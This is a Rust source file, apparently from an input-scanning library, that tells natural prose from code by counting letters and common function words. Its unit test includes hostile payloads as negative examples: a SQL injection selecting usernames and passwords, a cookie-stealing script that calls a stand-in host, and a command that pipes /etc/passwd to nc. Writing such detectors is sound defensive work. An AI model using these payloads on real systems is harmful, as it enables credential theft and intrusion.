//! Telling prose from code: sentences mention code more often than they are code.

use crate::bytes::{head, is_one_of};

/// Words that are common in sentences and rare in code.
const FUNCTION_WORDS: &[&str] = &[
    "the", "of", "to", "that", "it", "was", "with", "you", "this", "be", "are", "have", "but", "they", "we",
    "can", "will", "would", "there", "their", "what", "about", "which", "when", "your", "has", "been",
    "should", "could", "how", "than", "i", "my", "me", "he", "she", "our", "us", "do", "does", "did", "use",
    "using", "an", "for", "at", "so", "le", "la", "der", "die", "und", "que", "only", "more", "also", "no",
    "its", "may", "these", "some", "into", "a", "is", "if", "as",
];

/// Whether a value reads like sentences: mostly letters, enough words, and function words between them.
pub(crate) fn is_prose(value: &[u8]) -> bool {
    const SHORTEST: usize = 30;
    const INSPECTED: usize = 2000;
    if value.len() < SHORTEST {
        return false;
    }
    let value = head(value, INSPECTED);
    let letters = value.iter().filter(|b| b.is_ascii_alphabetic() || **b == b' ' || **b >= 0x80).count();
    if letters * 100 < value.len() * 70 {
        return false;
    }
    let (mut words, mut function_words) = (0, 0);
    for word in value.split(|b| b.is_ascii_whitespace()) {
        let word = word.strip_suffix(b",").or(word.strip_suffix(b".")).unwrap_or(word);
        if word.is_empty()
            || !word.iter().all(|b| b.is_ascii_alphabetic() || matches!(b, b'\'' | b'-' | 0x80..))
        {
            continue;
        }
        words += 1;
        function_words += usize::from(is_one_of(word, FUNCTION_WORDS));
    }
    words >= 6 && function_words >= 2 && function_words * 12 >= words
}

/// Whether a text has words of some length, as sentences have.
pub(crate) fn has_words(text: &[u8]) -> bool {
    let words = text.split(|b| !b.is_ascii_alphabetic()).filter(|word| word.len() > 2).count();
    words > 1 || (words > 0 && text.contains(&b' '))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sentences_are_prose_and_code_is_not() {
        for text in [
            "You can use SELECT * FROM users WHERE id = 1 to see what is in the table.",
            "The <script> tag is used to embed JavaScript in a page, and it should be closed.",
            "Please run rm -rf node_modules and then you can install the packages again.",
        ] {
            assert!(is_prose(text.as_bytes()), "{text}");
        }
        for text in [
            "1 UNION SELECT username, password FROM users WHERE id = 1 and a in (select 1)",
            "<script>document.location='http://evil.test/?c='+document.cookie</script>",
            "; cat /etc/passwd | nc 10.0.0.1 4444 ; sleep 10 ; id",
            "O'Brien",
        ] {
            assert!(!is_prose(text.as_bytes()), "{text}");
        }
    }
}
